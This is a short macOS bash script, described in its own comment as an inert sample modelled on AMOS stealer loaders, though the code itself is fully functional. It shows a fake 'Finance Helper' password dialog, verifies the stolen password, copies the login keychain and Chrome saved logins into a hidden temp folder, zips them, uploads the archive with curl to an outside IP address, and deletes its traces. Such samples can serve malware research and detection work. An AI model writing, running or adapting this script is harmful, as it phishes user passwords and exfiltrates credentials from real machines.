#!/bin/bash
# "helper" stage modelled on AMOS loaders: fake dialog, password check, keychain and browser copy (inert sample).
pw=$(osascript -e 'display dialog "Finance Helper needs your password to update security settings" default answer "" with icon caution with hidden answer' -e 'text returned of result')
dscl . -authonly "$USER" "$pw" || exit 0
echo "$pw" | sudo -S true
mkdir -p /tmp/.fh
cp ~/Library/Keychains/login.keychain-db /tmp/.fh/ 2>/dev/null
cp -R "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/.fh/ 2>/dev/null
ditto -c -k /tmp/.fh /tmp/.fh.zip
curl -s -F "f=@/tmp/.fh.zip" http://203.0.113.30/upload
rm -rf /tmp/.fh /tmp/.fh.zip "$0"
